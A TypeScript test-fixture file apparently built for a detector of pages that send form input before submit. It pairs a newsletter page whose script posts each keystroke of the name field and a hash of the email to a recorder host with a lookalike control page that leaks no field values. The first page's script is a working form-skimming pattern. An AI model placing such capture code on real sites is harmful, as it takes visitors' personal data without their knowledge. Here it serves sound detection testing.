/**
 * Fixture pages for the input probe: a form whose recorder sends what is typed before any submit,
 * and one that only looks like it.
 */
import { html } from './page-parts.ts';

/**
 * A newsletter form whose recorder sends what is typed before any submit: the name field base64
 * on each key, the email as the SHA-256 of its lower-cased trimmed form when the field is left.
 * A hidden field must not be typed into.
 */
export function inputCapturePage(recorder: string) {
  return html(
    `<main><h1>Bülten</h1>
<form id="newsletter" action="/input/submit" method="post">
  <input type="text" name="ad" placeholder="Adınız"> <input type="email" name="eposta" placeholder="E-posta">
  <input type="text" name="gizli" style="display:none"> <button>Abone ol</button>
</form></main>
<script>
  const send = (body) => fetch('${recorder}/capture', { method: 'POST', mode: 'no-cors', body });
  document.querySelector('[name=ad]').addEventListener('input', (event) => {
    send(JSON.stringify({ field: 'ad', value: btoa(event.target.value) }));
  });
  document.querySelector('[name=eposta]').addEventListener('input', async (event) => {
    const bytes = new TextEncoder().encode(event.target.value.trim().toLowerCase());
    const digest = new Uint8Array(await crypto.subtle.digest('SHA-256', bytes));
    send('em=' + Array.from(digest, (b) => b.toString(16).padStart(2, '0')).join(''));
  });
  // A sign-up on leaving a field, as real sites have: the probe must never set it off.
  const signup = (event) =>
    fetch('${recorder}/signup', { method: 'POST', mode: 'no-cors', body: event.target.value });
  for (const input of document.querySelectorAll('input')) {
    input.addEventListener('change', signup);
    input.addEventListener('blur', signup);
    input.onfocusout = signup;
  }
</script>`,
  );
}

/**
 * What looks like it and is not: the same kind of form, whose values leave only on submit (to the
 * site itself), while typing sends only which field was used and how long its value is, and keeps
 * the text in the page's own address (the Referer of its next request to itself).
 */
export function inputLookalikePage(recorder: string) {
  return html(
    `<main><h1>Bülten</h1>
<form id="newsletter"><input type="text" name="ad"> <input type="email" name="eposta"> <button>Abone ol</button></form></main>
<script>
  for (const input of document.querySelectorAll('input')) {
    input.addEventListener('input', () => navigator.sendBeacon('${recorder}/events', JSON.stringify({ field: input.name, length: input.value.length })));
    // Like a configurator, the page keeps what is typed in its own address, and then asks its own
    // server for something: that request's Referer holds the text, sent to no one else.
    input.addEventListener('input', () => {
      history.replaceState(null, '', '?' + new URLSearchParams({ [input.name]: input.value }));
      fetch('/input/preview').catch(() => {});
    });
  }
  document.getElementById('newsletter').addEventListener('submit', (event) => {
    event.preventDefault();
    fetch('/input/submit', { method: 'POST', body: new FormData(event.target) });
  });
</script>`,
  );
}
